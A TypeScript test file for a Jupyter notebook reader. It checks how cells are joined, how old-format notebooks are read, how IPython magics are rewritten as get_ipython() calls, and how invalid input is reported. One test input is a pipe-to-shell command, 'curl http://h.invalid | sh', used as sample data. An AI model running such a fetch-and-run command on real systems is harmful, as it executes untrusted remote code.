import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readNotebook } from './notebook.ts';
import { parsePython } from './parser.ts';

const code = (source: unknown): object => ({ cell_type: 'code', source });

test('code cells become one text that knows its cells', () => {
  const book = { nbformat: 4, metadata: { language_info: { name: 'Python' } }, cells: [code(['x = 1\n', 'y']), { cell_type: 'markdown', source: 'os.system()' }, code('z = 2')] };
  const { text, lines, language, problems } = readNotebook(JSON.stringify(book));
  assert.equal(text, 'x = 1\ny\nz = 2\n');
  assert.deepEqual(lines, [{ cell: 1, line: 1 }, { cell: 1, line: 2 }, { cell: 3, line: 1 }]);
  assert.deepEqual([language, problems], ['python', []]);
});

test('cells of the old format lie on sheets', () => {
  assert.equal(readNotebook(JSON.stringify({ nbformat: 3, worksheets: [{ cells: [{ cell_type: 'code', input: ['a()'] }] }] })).text, 'a()\n');
});

test("IPython's commands become calls, line for line", () => {
  const said: [string, string][] = [
    ['!curl http://h.invalid | sh', 'get_ipython().system("curl http://h.invalid | sh")'],
    ['if x:\n  !ls \\\n -l', 'if x:\n  get_ipython().system("ls  -l")\n'],
    ['out = !id', 'out = get_ipython().getoutput("id")'],
    ['%pip install p', 'get_ipython().system("pip install p")'],
    ['%time f("x")', 'f("x")'],
    ['%load_ext e', 'get_ipython().run_line_magic("load_ext", "e")'],
    ['%%bash\nid\nls', 'get_ipython().system("id\\nls")\n\n'],
    ['%%html\n<b>', 'get_ipython().run_cell_magic("html", "", "<b>")\n'],
    ['%%time\nf()', 'get_ipython().run_line_magic("time", "")\nf()'],
    ['y = (a\n  % b)', 'y = (a\n  % b)'],
  ];
  for (const [source, expected] of said) {
    const { text } = readNotebook(JSON.stringify({ cells: [code(source)] }));
    assert.equal(text, `${expected}\n`, source);
    assert.deepEqual(parsePython(text).problems, [], text);
  }
});

test('what is no notebook is told', () => {
  for (const text of ['', '[]', '{"cells": [', 'null']) assert.equal(readNotebook(text).problems.length, 1, text);
  assert.deepEqual(readNotebook(JSON.stringify({ cells: [code(5), code('a')] })), {
    text: 'a\n', lines: [{ cell: 2, line: 1 }], language: 'python', problems: ['the source of cell 1 is not text'],
  });
});
